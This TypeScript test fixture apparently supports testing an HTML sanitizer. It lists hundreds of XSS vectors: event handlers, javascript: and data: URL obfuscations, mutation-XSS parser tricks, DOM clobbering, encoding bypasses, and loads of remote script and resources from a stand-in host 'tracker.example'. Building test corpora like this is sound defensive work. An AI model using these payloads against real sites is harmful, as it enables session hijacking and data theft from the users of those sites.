// Ways to make a page run a script that are known from the tests of cleaners and from collections of such texts. Each
// runs `alert` when it works, which a browser tells; addresses lead to a host that must never be asked.

export const foreignHost = 'tracker.example'
const far = `https://${foreignHost}`

const handlers = `onload onerror onclick onmouseover onfocus onblur ontoggle onanimationstart onanimationend
  ontransitionend onbegin onend onpointerenter onpointerover onwheel onscroll oncopy onpaste oncut onresize onhashchange
  onpageshow onpopstate onbeforeinput oninput oninvalid onsubmit onselect onstart onfinish onbounce onloadstart
  oncanplay onplay onauxclick oncontextmenu ondragstart onfocusin onkeydown onmessage`
  .trim()
  .split(/\s+/)

const elements = `img svg body video audio iframe object embed details marquee input select textarea button form a div
  style script link math table td p span isindex keygen frameset`
  .trim()
  .split(/\s+/)

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&#x09;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;&#97;&#118;&#97;&#115;cript:alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  '\u0001javascript:alert(1)',
  'javascript:/*--></title></style></textarea></script><svg onload=alert(1)>',
  'javascript://%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'blob:null/1',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
]

const odd = `<script>alert(1)</script>
<script src=${far}/x.js></script>
<SCRIPT SRC=//${foreignHost}/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<script x="</script>">alert(1)</script>
<script>/*</script><img src=x onerror=alert(1)>*/
<<script>alert(1);//<</script>
<img src=x onerror=alert(1)
<img src="x" onerror="alert(1)"//
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=alert(1)>
<img src=\`x\` onerror=alert(1)>
<img """><script>alert(1)</script>">
<img src='x'onerror='alert(1)'>
<img srcset="${far}/a 1x">
<img src="${far}/pixel.gif" width=1 height=1>
<img lowsrc="javascript:alert(1)">
<img dynsrc="javascript:alert(1)">
<picture><source srcset="${far}/a"><img></picture>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><set attributeName="onmouseover" to="alert(1)"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><g title="</style><img src onerror=alert(1)>">
<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='alert(1)'>">
<table><caption><svg><title><table><caption></caption></table><style><a id="</style><img src=x onerror=alert(1)>"></a></style></title></svg></caption></table>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>
<xmp><p title="</xmp><svg/onload=alert(1)>">
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<style><p title="</style><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<embed src="${far}/x.swf" allowscriptaccess=always>
<applet code="x" archive="${far}/x.jar"></applet>
<base href="${far}/"><img src="a.png">
<base href="javascript:/a/-alert(1)//"><a href="../x">x</a>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=${far}">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel="stylesheet" href="${far}/x.css">
<link rel="prefetch" href="${far}/x"><link rel="dns-prefetch" href="//${foreignHost}"><link rel="preconnect" href="${far}">
<link rel="import" href="data:text/html,<script>alert(1)</script>">
<style>@import url(${far}/x.css);</style>
<style>body{background:url(${far}/x)}</style>
<style>*{x:expression(alert(1))}</style>
<style>@font-face{font-family:x;src:url(${far}/f.woff)}p{font-family:x}</style><p>x
<p style="background-image:url(${far}/x)">x</p>
<p style="background:u\\72l(${far}/x)">x</p>
<p style="list-style-image:url(${far}/x);cursor:url(${far}/c),auto">x</p>
<p style="content:url(${far}/x);border-image:url(${far}/x)">x</p>
<p style="behavior:url(#x);-moz-binding:url(${far}/x.xml#x)">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="color:red;/*" onmouseover="alert(1)" x="*/">x</p>
<p style="font-family:'x&quot;;background:url(${far}/q)'">x</p>
<p style="position:fixed;inset:0;z-index:9999">x</p>
<table background="${far}/x"><td background="javascript:alert(1)">x</td></table>
<body background="${far}/x">
<bgsound src="${far}/x">
<video poster="${far}/x"><source src="${far}/v"></video>
<audio src="${far}/a" autoplay></audio>
<input type="image" src="${far}/x" formaction="javascript:alert(1)">
<button formaction="javascript:alert(1)">x</button>
<form action="javascript:alert(1)"><input type=submit autofocus onfocus=alert(1)></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<isindex action=javascript:alert(1) type=image>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<select autofocus onfocus=alert(1)>
<input autofocus onfocus=alert(1)>
<a href="https://ok.example" ping="${far}/ping">x</a>
<a id=createElement><a id=createElement name=x>x</a>
<form name=body><input name=firstChild><img name=cookie>
<img name=getElementById id=location>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<?import namespace="t" implementation="#default#time2">
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;
<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>
<custom-element onload=alert(1)>x</custom-element>
<template><img src=x onerror=alert(1)></template>
<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>
<slot name=x onslotchange=alert(1)></slot>
<dialog open oncancel=alert(1)><form method=dialog></dialog>
<div popover id=p onbeforetoggle=alert(1)></div><button popovertarget=p>x</button>
<a href="\\x6A\\x61vascript:alert(1)">x</a>
<a href="https://ok.example/&quot;onmouseover=&quot;alert(1)">x</a>
<a title='"><img src=x onerror=alert(1)>'>x</a>
<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>
<img alt="--><svg/onload=alert(1)>" src="cid:x">
<a href=https://ok.example/\`onclick=alert(1)//>x</a>
<p lang='"onclick=alert(1)'>x</p>
<span data-user-id='"><img src=x onerror=alert(1)>'>x</span>
<img src="/desk/api/v2/files/1/../../../sign-out">
\u003cimg src=x onerror=alert(1)\u003e
%3Cimg src=x onerror=alert(1)%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<img src=x on\u0000error=alert(1)>
<scr\u0000ipt>alert(1)</scr\u0000ipt>
<\u0000img src=x onerror=alert(1)>
<img\u000bsrc=x\u000bonerror=alert(1)>
<img\u000csrc=x\u000conerror=alert(1)>
[x](javascript:alert(1))
![x](${far}/md.png "onerror=alert(1)")
[x]: javascript:alert(1) "x"
<javascript:alert(1)>
\`\`\`"><img src=x onerror=alert(1)>
`
  .split('\n')
  .filter((line) => line !== '')

/** Every known way, one text each. */
export const vectors: readonly string[] = [
  ...handlers.map((handler) => `<img src="x:x" tabindex=1 autofocus ${handler}="alert(1)">`),
  ...elements.map(
    (element) => `<${element} src=x tabindex=1 autofocus onload=alert(1) onerror=alert(1) onfocus=alert(1)>x`,
  ),
  ...addresses.map((address) => `<a href="${address}">x</a><img src="${address}"><p cite="${address}">x</p>`),
  ...odd,
]
